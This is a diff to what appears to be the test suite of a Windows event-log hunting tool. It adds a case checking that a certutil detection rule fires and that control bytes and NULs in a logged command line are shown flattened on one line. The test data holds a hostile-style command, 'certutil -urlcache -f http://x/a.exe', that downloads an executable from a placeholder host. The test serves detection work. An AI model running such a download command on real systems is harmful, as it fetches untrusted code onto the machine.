@@ -297,6 +297,22 @@ def main():
         c.check("Winlogbeat JSON == EVTX", [key(o) for o in from_beat] ==
                 [key(o) for o in from_evtx], (from_beat, err))
 
+        # Details stay one line and hide nothing: control bytes, NUL among
+        # them, become spaces, and what follows a NUL is shown.
+        hidden = os.path.join(tmp, "hidden.jsonl")
+        with open(hidden, "w") as f:
+            f.write(json.dumps({"Event": {
+                "System": {"EventID": 4688, "Channel": "Security", "Computer": "pc1",
+                           "EventRecordID": 7,
+                           "TimeCreated": {"#attributes": {
+                               "SystemTime": "2018-03-01T10:00:00.000000Z"}}},
+                "EventData": {"CommandLine": "certutil -urlcache\u0000 -f http://x/a.exe"
+                                             "\r\nnext"}}}) + "\n")
+        _, objs, err = rows_jsonl("--rule-id", RULE_CERTUTIL, inputs=[hidden])
+        c.check("details show text after a NUL, on one line",
+                len(objs) == 1 and objs[0]["Details"] ==
+                "CommandLine: certutil -urlcache  -f http://x/a.exe  next", (objs, err))
+
         # A directory with both kinds: each file hunted once, bad lines reported.
         os.rename(jsonl, os.path.join(logs, "security.jsonl"))
         with open(os.path.join(logs, "broken.jsonl"), "w") as f:
